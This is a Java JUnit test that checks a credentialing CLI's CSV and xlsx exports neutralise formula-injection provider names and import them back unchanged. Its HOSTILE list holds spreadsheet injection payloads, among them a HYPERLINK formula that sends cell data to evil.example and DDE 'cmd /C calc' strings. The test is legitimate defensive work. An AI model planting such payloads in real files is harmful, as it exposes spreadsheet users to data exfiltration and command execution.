package org.creddesk.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.InputStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.creddesk.roster.FormulaCells;
import org.creddesk.sample.SyntheticProviders;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Providers whose names are formulas (=HYPERLINK, +cmd|, @SUM, -1+1) go through every CSV and xlsx the program
 * writes (roster export, payer delta, deadlines, the monitoring report) and nothing a spreadsheet would evaluate
 * comes out; importing an export back keeps every name exactly, as text.
 */
class SafeExportsTest {
    static final Clock CLOCK = Clock.fixed(Instant.parse("2026-11-23T15:00:00Z"), ZoneOffset.UTC);
    static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")",
            "+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-1+1");

    @TempDir
    Path dir;
    Path db;

    record Run(int exit, String out, String err) {
    }

    Run run(Path database, String... args) {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        List<String> all = new ArrayList<>(List.of("--db", database.toString()));
        all.addAll(List.of(args));
        int exit = new CredDeskCli(new PrintWriter(out), new PrintWriter(err), CLOCK)
                .execute(all.toArray(String[]::new), (d, c) -> {
                });
        return new Run(exit, out.toString(), err.toString());
    }

    Run run(String... args) {
        return run(db, args);
    }

    static String csvField(String v) {
        return "\"" + v.replace("\"", "\"\"") + "\"";
    }

    @BeforeEach
    void importHostileNames() throws Exception {
        db = dir.resolve("c.db");
        StringBuilder roster = new StringBuilder("NPI,Last Name,First Name,DOB,Lic State,Lic #,Lic Exp\n");
        for (int i = 0; i < HOSTILE.size(); i++) {
            roster.append(SyntheticProviders.npi(500 + i)).append(',').append(csvField(HOSTILE.get(i)))
                    .append(",Anna,01/02/1970,MA,L-").append(i).append(",03/15/2027\n");
        }
        Path file = dir.resolve("hostile.csv");
        Files.writeString(file, roster, StandardCharsets.UTF_8);
        Run r = run("roster", "import", file.toString(), "--json");
        assertThat(r.exit()).as(r.err()).isZero();
        assertThat(lastNames(db)).as("the import keeps each value as text").containsExactlyInAnyOrderElementsOf(HOSTILE);
    }

    List<String> lastNames(Path database) throws Exception {
        Run r = run(database, "providers", "list", "--json");
        List<String> names = new ArrayList<>();
        for (JsonNode p : Json.mapper().readTree(r.out())) {
            names.add(p.get("lastName").asText());
        }
        return names;
    }

    @Test
    void everyCsvAndWorkbookTheProgramWritesIsSafeToOpenAndReadsBackExactly() throws Exception {
        csvsNeutraliseFormulasAndReadBackExactly();
        workbooksHoldTextCellsMarkedAsTextAndReadBackExactly();
    }

    void csvsNeutraliseFormulasAndReadBackExactly() throws Exception {
        List<Path> csvs = writeEveryExport(".csv");
        for (Path csv : csvs) {
            List<String> fields = fields(csv);
            assertThat(fields).as(csv.getFileName() + ": no field a spreadsheet would run")
                    .allSatisfy(f -> assertThat(f.startsWith("'") || !FormulaCells.wouldEvaluate(f)).as(f).isTrue());
            if (!csv.getFileName().toString().endsWith("-lists.csv")) {
                assertThat(fields).as(csv.getFileName() + " lists the providers")
                        .anySatisfy(f -> assertThat(f).startsWith("'-1+1"));
            }
        }
        Path fresh = dir.resolve("fresh.db");
        Run back = run(fresh, "roster", "import", dir.resolve("roster.csv").toString(), "--json");
        assertThat(back.exit()).as(back.err()).isZero();
        assertThat(lastNames(fresh)).as("an exported CSV imports back to the same names")
                .containsExactlyInAnyOrderElementsOf(HOSTILE);
    }

    void workbooksHoldTextCellsMarkedAsTextAndReadBackExactly() throws Exception {
        List<Path> books = writeEveryExport(".xlsx");
        for (Path book : books) {
            int hostileCells = 0;
            try (InputStream in = Files.newInputStream(book); XSSFWorkbook wb = new XSSFWorkbook(in)) {
                for (Sheet sheet : wb) {
                    for (Row row : sheet) {
                        for (Cell cell : row) {
                            assertThat(cell.getCellType()).as(book.getFileName() + " " + cell.getAddress())
                                    .isEqualTo(CellType.STRING);
                            String v = cell.getStringCellValue();
                            if (FormulaCells.wouldEvaluate(v)) {
                                assertThat(cell.getCellStyle().getQuotePrefixed()).as(v).isTrue();
                                hostileCells++;
                            }
                        }
                    }
                }
            }
            assertThat(hostileCells).as(book.getFileName() + " holds the hostile names").isGreaterThanOrEqualTo(4);
        }
        Path fresh = dir.resolve("fresh-from-xlsx.db");
        Run back = run(fresh, "roster", "import", dir.resolve("roster.xlsx").toString(), "--json");
        assertThat(back.exit()).as(back.err()).isZero();
        assertThat(lastNames(fresh)).containsExactlyInAnyOrderElementsOf(HOSTILE);
    }

    /** Every writer once: roster export, payer delta, deadlines, monitoring report (the report folder's files). */
    List<Path> writeEveryExport(String extension) throws Exception {
        List<Path> files = new ArrayList<>();
        Path roster = dir.resolve("roster" + extension);
        assertThat(run("roster", "export", roster.toString()).exit()).isZero();
        files.add(roster);
        Path delta = dir.resolve("delta" + extension);
        assertThat(run("roster", "export", delta.toString(), "--template", "payer-delta", "--since-last-export",
                "Acme Health " + extension).exit()).isZero();
        files.add(delta);
        Path deadlines = dir.resolve("deadlines" + extension);
        assertThat(run("deadlines", "--xlsx", deadlines.toString()).exit()).isZero();
        files.add(deadlines);
        Path leie = dir.resolve("UPDATED.csv");
        // a list row with the name and birth date of one of them: a hit, so the hits table holds it too
        Files.writeString(leie, ScreenCommandTest.HEADER + "\r\n-1+1,ANNA,,,IND- LIC HC SERV PRO,NURSE/NURSES AIDE,,"
                + "0000000000,19700102,1 FICTION WAY,NOWHERE,MA,00001,1128b4,20190321,00000000,00000000,\r\n");
        assertThat(run("screen", "--leie", leie.toString()).exit()).isZero();
        Path report = dir.resolve("report-" + extension.substring(1));
        String format = extension.substring(1);
        Run r = run("screen", "report", "--month", "2026-11", "--out", report.toString(), "--format", format);
        assertThat(r.exit()).as(r.err()).isZero();
        try (var listed = Files.list(report)) {
            listed.filter(p -> p.toString().endsWith(extension)).forEach(files::add);
        }
        assertThat(files).hasSizeGreaterThanOrEqualTo(4);
        return files;
    }

    /** The raw fields, as a spreadsheet receives them (no apostrophe taken off). */
    static List<String> fields(Path csv) throws Exception {
        List<String> fields = new ArrayList<>();
        String text = Files.readString(csv, StandardCharsets.UTF_8);
        try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(text.replace("\uFEFF", ""))) {
            for (CsvRecord rec : reader) {
                fields.addAll(rec.getFields());
            }
        }
        return fields;
    }
}
